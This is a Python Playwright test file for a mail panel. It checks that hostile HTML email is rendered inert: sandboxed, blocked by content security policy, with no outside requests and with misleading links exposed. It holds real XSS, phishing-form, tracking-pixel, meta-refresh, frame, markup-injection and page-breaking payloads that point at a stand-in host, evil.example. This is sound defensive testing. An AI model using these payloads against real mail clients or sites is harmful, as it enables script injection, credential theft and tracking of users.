"""Mail that attacks whoever looks at it: it runs nothing, loads nothing, leads nowhere, and breaks no page."""

from __future__ import annotations

from email.message import EmailMessage

import pytest
from playwright.sync_api import Page, expect

from tests.panel.visitor import OPERATOR, RECIPIENT, Visitor, held

pytestmark = pytest.mark.emulator

EVIL = "http://evil.example"
PAGES = {
    "script": f"<script>document.title='RUN';fetch('{EVIL}/x')</script><img src=x onerror=\"document.title='RUN'\"><body onload=\"document.title='RUN'\"><p>script</p>",
    "style tricks": f'<style>@import url({EVIL}/a.css);body{{background:url({EVIL}/b.png)}}</style><div style="position:fixed;inset:0;z-index:9999;background:url({EVIL}/c.png)">style tricks</div>',
    "pictures": f"<img src={EVIL}/p.gif srcset='{EVIL}/p2.gif 2x'><table background={EVIL}/t.gif><tr><td>pictures</td></tr></table><input type=image src={EVIL}/i.png><video poster={EVIL}/v.png></video>",
    "drawings": f"<svg onload=\"document.title='RUN'\"><image href='{EVIL}/s.png'/><a xlink:href='javascript:document.title=1'><text>x</text></a><foreignObject><script>document.title='RUN'</script></foreignObject></svg><p>drawings</p>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/r'><base href='{EVIL}/'><base target=_top><link rel=stylesheet href=s.css><link rel=preconnect href={EVIL}><p>refresh</p>",
    "forms": f"<form action='{EVIL}/f' target=_top><input name=password type=password autofocus><button>Log in</button></form><p>forms</p>",
    "frames": f"<iframe src='{EVIL}/i'></iframe><object data='{EVIL}/o'></object><embed src='{EVIL}/e'><frameset><frame src='{EVIL}/s'></frameset><p>frames</p>",
    "links": f"<p>links</p><a id=l1 href='{EVIL}/l' target=_top>https://www.bank.com/login</a> <a href=\"javascript:top.document.title='RUN'\">run</a> <a href='data:text/html,x'>data</a><map name=m><area href='{EVIL}/m' coords=0,0,9,9></map>",
    "huge": "<p>huge</p><table width=200000 height=100000><tr>"
    + "<td width=9000>wide</td>" * 300
    + "</tr></table><pre>"
    + "W" * 20_000
    + "</pre>",
    "deep": "<p>deep</p>" + "<div>" * 30_000 + "bottom",
}


def message(subject: str, page: str) -> bytes:
    made = EmailMessage()
    made["From"] = 'Evil "<script>document.title=1</script>" <evil@hostile.example>'
    made["To"] = RECIPIENT
    made["Subject"] = subject
    made["Message-ID"] = f"<{subject.replace(' ', '.')}@hostile.example>"
    made.set_content(page, subtype="html", cte="quoted-printable")
    return made.as_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def stands(page: Page) -> None:
    """The panel is whole: nothing wider than the window, everything where it was."""
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert page.evaluate(
        "[...document.querySelectorAll('.main, .list, .reading')].every(e => e.getBoundingClientRect().right <= innerWidth + 1)"
    )
    expect(page.get_by_role("button", name="Release", exact=True)).to_be_visible()


@pytest.mark.parametrize("name", PAGES)
def test_it_does_nothing(visit: Visitor, name: str) -> None:
    subject = f"hostile {name}"
    held(
        visit.installation,
        subject,
        sender=f"{name.replace(' ', '')}@hostile.example",
        raw=message(subject, PAGES[name]),
    )
    page = visit.enter(RECIPIENT)
    visit.open(subject)
    frame = page.frame_locator("iframe.frame")
    expect(frame.locator("body")).to_contain_text(name)
    box = page.locator("iframe.frame").bounding_box()
    assert box is not None
    for x in range(1, 8):  # a person who presses everything
        for y in range(1, 6):
            page.mouse.click(box["x"] + box["width"] * x / 8, box["y"] + box["height"] * y / 6)
    page.wait_for_timeout(700)
    assert page.title() == f"{subject} · Pratique"
    assert len(page.frames) == 2
    assert "/v1/pages/" in page.frames[-1].url
    assert page.evaluate("document.querySelector('iframe').getAttribute('sandbox')") == ""
    assert len(page.context.pages) == 1
    stands(page)
    assert visit.foreign == []


def test_its_page_is_harmless_also_by_itself(visit: Visitor) -> None:
    """Somebody may open the frame's address in a tab: the policy goes with the answer, not with the frame."""
    held(
        visit.installation,
        "hostile alone",
        sender="alone@hostile.example",
        raw=message("hostile alone", "".join(PAGES.values())[:100_000]),
    )
    page = visit.enter(RECIPIENT)
    visit.open("hostile alone")
    expect(page.frame_locator("iframe.frame").locator("body")).to_contain_text("script")
    url = page.frames[-1].url
    answer = page.goto(url)
    assert answer is not None
    assert answer.headers["content-security-policy"].startswith("sandbox; default-src 'none'")
    page.wait_for_timeout(500)
    assert page.title() == "Message"
    assert visit.foreign == []


def test_pictures_from_elsewhere_come_only_when_asked_for(visit: Visitor) -> None:
    raw = message("hostile with pictures", f"<p>look</p><img src='{EVIL}/seen.gif' width=20 height=20>")
    held(visit.installation, "hostile with pictures", sender="pictures@hostile.example", raw=raw)
    page = visit.enter(RECIPIENT)
    visit.open("hostile with pictures")
    expect(page.frame_locator("iframe.frame").locator("body")).to_contain_text("look")
    page.wait_for_timeout(500)
    assert visit.foreign == []
    page.get_by_role("button", name="Load pictures").click()
    expect(page.get_by_text("Pictures are loaded from")).to_be_visible()
    for _ in range(50):
        if visit.foreign:
            break
        page.wait_for_timeout(100)
    assert set(visit.foreign) == {"https://evil.example/seen.gif"}
    visit.requests.clear()
    visit.errors.clear()  # the picture could not be had: there is no such host


def test_a_link_says_where_it_would_have_led(visit: Visitor) -> None:
    held(
        visit.installation,
        "hostile promise",
        sender="promise@hostile.example",
        raw=message("hostile promise", PAGES["links"]),
    )
    page = visit.enter(RECIPIENT)
    visit.open("hostile promise")
    expect(page.frame_locator("iframe.frame").locator(".pq-true").first).to_have_text("→ evil.example")
    expect(page.locator("details", has_text="misleading")).to_contain_text(f"{EVIL}/l")
    assert page.frame_locator("iframe.frame").locator("a").count() == 0


def test_words_of_a_stranger_are_text_everywhere(visit: Visitor) -> None:
    """Subject, names, header fields, file names, evidence: each is shown, none is read as markup."""
    bad = "<img src=x onerror=\"document.title='RUN'\">{{1+1}}"
    made = EmailMessage()
    made["From"] = "evil@markup.example"
    made["To"] = RECIPIENT
    made["Subject"] = f"markup {bad}"
    made["X-Evil"] = bad
    made.set_content(f"{bad} </textarea></script><script>document.title='RUN'</script>")
    made.add_attachment(
        b"MZ", maintype="application", subtype="octet-stream", filename=f"{bad}.exe".replace("/", "")
    )
    raw = made.as_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    held(visit.installation, f"markup {bad}", sender="evil@markup.example", raw=raw)
    page = visit.enter(OPERATOR)
    visit.open(f"markup {bad}")
    visit.give_reason()
    for tab in ("Content", "Why", "Headers", "Source", "History"):
        page.get_by_role("tab", name=tab).click()
        page.wait_for_timeout(400)
        assert page.locator("main img[src='x']").count() == 0
    assert page.title() == f"markup {bad} · Pratique"
    stands(page)


def test_on_a_phone_it_stands_as_well(visit: Visitor) -> None:
    held(
        visit.installation,
        "hostile on a phone",
        sender="phone@hostile.example",
        raw=message("hostile on a phone", PAGES["huge"]),
    )
    page = visit.fresh(size="phone")
    visit.enter(RECIPIENT)
    visit.open("hostile on a phone")
    expect(page.frame_locator("iframe.frame").locator("body")).to_contain_text("huge")
    stands(page)
